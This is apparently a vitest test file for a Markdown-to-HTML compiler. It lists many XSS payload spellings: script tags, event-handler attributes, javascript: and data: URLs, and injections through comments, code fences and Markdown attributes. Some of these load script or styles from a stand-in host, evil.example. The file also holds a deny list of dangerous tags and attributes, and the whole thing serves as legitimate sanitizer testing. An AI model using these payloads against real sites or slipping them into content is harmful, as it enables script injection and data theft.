// Attacks with raw HTML and Markdown: the page runs no script, and loads or embeds nothing.
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { compileText, toHtml } from '../../support/compile-text.ts';

/** Spellings of attacks. None may leave a tag or an attribute that runs a script, or that loads or embeds something. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img src=`x` onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="x.swf">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action="//evil.example"><input name=a><button>x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="x" onclick="alert(1)">y</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="behavior:url(x)">x</div>',
  '<style>@import "//evil.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--><script>alert(1)</script>-->',
  '<!---><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<a title="</a><script>alert(1)</script>">x</a>',
  "<a title='\"><script>alert(1)</script>'>x</a>",
  '<abbr title="x" onmouseover=alert(1)>y</abbr>',
  '<b <script>alert(1)</script>>x</b>',
  '<b/onclick=alert(1)>x</b>',
  '<b onclick\n=\nalert(1)>x</b>',
  '<b onclick="alert(1)" onclick="alert(2)">x</b>',
  '<td background="javascript:alert(1)">x</td>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<q cite="  java\tscript:alert(1)">x</q>',
  '<ins cite="vbscript:x">y</ins>',
  '<del cite="data:text/html,<script>alert(1)</script>">y</del>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '``` "onmouseover=alert(1)\nx\n```',
  '```js&#x20;onclick=alert(1)\nx\n```',
  '```js title="</span><script>alert(1)</script>"\nx\n```',
  ':::note[<script>alert(1)</script>]\nx\n:::',
  ':::note{#"><script>alert(1)</script>}\nx\n:::',
  ':::note{class="\\"><script>alert(1)</script>"}\nx\n:::',
  ':::tabs{group="&quot;><script>alert(1)</script>"}\n:::',
  '## <script>alert(1)</script>',
  '## x {#"onclick="alert(1)}',
  '## x <!-- #"><script>alert(1)</script> -->',
  '![x" onerror="alert(1)](y)',
  '![x](y "\\" onerror=\\"alert(1)")',
  '[x](y "\\"><script>alert(1)</script>")',
  '[x]: y "\\"><script>alert(1)</script>"\n\n[x]',
  '[^"><script>]\n\n[^"><script>]: x',
  '{{"><script>alert(1)</script>}}',
  '| <script>alert(1)</script> |\n|---|\n| x |',
  '- [x] <script>alert(1)</script>',
  'www.example.com/"><script>alert(1)</script>',
  'http://example.com/<script>alert(1)</script>',
  '<http://example.com/"onmouseover="alert(1)>',
];

const running = new Set([
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'base',
  'meta',
  'link',
  'form',
  'svg',
  'math',
  'video',
  'audio',
  'template',
]);
describe('attacks', () => {
  it.each(attacks)('%j leaves no tag or attribute that runs, loads or embeds something', (markdown) => {
    const found: string[] = [];
    const parser = new Parser({
      onopentag: (name, attributes) => {
        if (running.has(name)) found.push(name);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (/^on|^style$|^srcdoc$|^xlink/.test(attribute)) found.push(attribute);
          // URLs of links and images are checked when they are resolved. No other attribute may contain a URL that runs
          // a script.
          const address = (name === 'a' && attribute === 'href') || (name === 'img' && attribute === 'src');
          const bare = value.replace(/[\u0000-\u0020]/g, '');
          if (!address && /^(?:javascript|vbscript|data):/i.test(bare)) found.push(value);
        }
      },
    });
    parser.end(toHtml(markdown));
    expect(found).toEqual([]);
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x]\n\n[x]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" \n javascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
  ])('%j has its decoded URL in the facts, so that the link resolver can refuse it', (markdown) => {
    const { links } = compileText(markdown).facts;
    expect(links).toHaveLength(1);
    expect(links[0]?.url.replace(/[\u0000-\u0020]/g, '').toLowerCase()).toMatch(/^javascript:/);
  });
});
